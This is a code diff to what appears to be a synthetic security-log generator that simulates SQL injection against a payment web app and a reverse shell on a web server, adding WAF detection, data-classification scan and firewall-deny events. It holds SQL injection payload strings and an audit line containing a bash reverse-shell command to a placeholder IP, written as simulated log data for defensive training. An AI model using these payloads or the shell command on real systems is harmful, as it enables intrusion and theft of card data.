@@ -1,7 +1,8 @@
 import type { LogEvent } from '../../ingest.ts';
 import { machineNamed, places, svcPayReport, things } from '../estate.ts';
-import { apiCall, secret, statement } from '../events/azure.ts';
+import { apiCall, firewallRule, secret, statement, webAttack } from '../events/azure.ts';
 import { connection, deviceProcess } from '../events/devices.ts';
+import { scan, sensitivityLabels } from '../events/labels.ts';
 import { flow, lookup, syslog } from '../events/network.ts';
 import type { Story } from './story.ts';
 
@@ -9,14 +10,24 @@ const web = machineNamed('vm-pay-web-01');
 const attacker = places.rotterdam.ip;
 const identity = { oid: '5e0c2f7a-41d9-4b66-8a1f-20c7d3b9e614', name: web.id };
 
-const sqlInjection: Story = ({ dice, spread }) => {
+const sqlInjection: Story = ({ dice, before, spread }) => {
   const inputs = [
     "'",
     "' or 1=1 --",
     "' union select null, null --",
     "' union select table_name, null from information_schema.tables --",
   ];
-  return spread(48, 6, 2).flatMap((at, n) => {
+  const scanned = ['cards', 'invoices', 'refunds'].map((table, n) =>
+    scan(dice, {
+      at: before(2 * 24 * 60 + n),
+      source: things.sql.replace(/\/databases\/.*$/, ''),
+      type: 'azuresql',
+      asset: `mssql://sql-payments.database.windows.net/payments/dbo/${table}`,
+      label: table === 'cards' ? sensitivityLabels.highlyConfidential : sensitivityLabels.confidential,
+      classifications: { cards: ['Credit Card Number'], invoices: ['All Full Names'] }[table] ?? [],
+    }),
+  );
+  const statements = spread(48, 6, 2).flatMap((at, n) => {
     const input = inputs[Math.min(inputs.length - 1, Math.floor(n / 12))] ?? '';
     const ok = input.includes('union');
     return [
@@ -37,8 +48,19 @@ const sqlInjection: Story = ({ dice, spread }) => {
         succeeded: ok,
       }),
       ...(ok ? [] : [exception(at + 25, dice.hex(32))]),
+      // It only notes what it sees: somebody never switched it to blocking.
+      webAttack(dice, {
+        at: at - 5,
+        from: attacker,
+        host: 'pay.contoso.com',
+        path: `/invoices/search?reference=${encodeURIComponent(input)}`,
+        rule: '942100',
+        message: 'SQL Injection Attack Detected via libinjection',
+        action: 'Detected',
+      }),
     ];
   });
+  return [...scanned, ...statements];
 };
 
 function request(at: number, url: string, ok: boolean, operation: string): LogEvent {
@@ -145,6 +167,9 @@ const reverseShell: Story = ({ dice, before, spread }) => {
       'audit',
       `type=EXECVE msg=audit: argc=3 a0="bash" a1="-c" a2="exec bash -i &>/dev/tcp/203.0.113.66/4444 <&1" uid=33`,
       40_213,
+    ),
+    ...spread(60, 40, 8).map((at) =>
+      firewallRule(dice, { at, from: attacker, to: '10.20.4.12', port: 22, allowed: false }),
     ),
     run(4.9, '/usr/bin/id', 'id'),
     run(4.8, '/usr/bin/uname', 'uname -a'),
